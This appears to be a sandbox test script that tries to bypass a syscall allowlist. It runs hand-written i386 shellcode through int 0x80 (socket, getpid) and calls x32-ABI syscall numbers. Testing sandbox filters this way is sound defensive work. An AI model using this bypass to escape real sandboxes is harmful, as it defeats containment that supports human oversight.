"""Calls the kernel as 32-bit programs do, whose calls have other numbers, to get past the list of allowed ones."""

import ctypes
import mmap
import os

from attacker import attempt, play

_PRIVATE_ANONYMOUS = 0x22
_SOCKET_32 = "53 b8 67010000 bb 10000000 b9 03000000 31d2 cd80 5b c3"  # i386: socket(AF_NETLINK, SOCK_RAW, 0)
_GETPID_32 = "53 b8 14000000 cd80 5b c3"  # i386: getpid()
_X32 = 0x4000_0000
_GETPID, _SHMGET = 39, 29  # x86-64

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def run(code: str) -> int:
    writable = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    memory = mmap.mmap(-1, mmap.PAGESIZE, flags=_PRIVATE_ANONYMOUS, prot=writable)
    memory.write(bytes.fromhex(code))
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))())


def attack() -> list[str]:
    if os.uname().machine != "x86_64":
        raise NotImplementedError("there are no such calls on this machine")
    worked = [name for name, code in (("socket", _SOCKET_32), ("getpid", _GETPID_32)) if run(code) >= 0]
    return worked + [str(number) for number in (_GETPID, _SHMGET) if _libc.syscall(_X32 | number, 0, 4096, 0o1600) >= 0]


attempt(attack)
play()
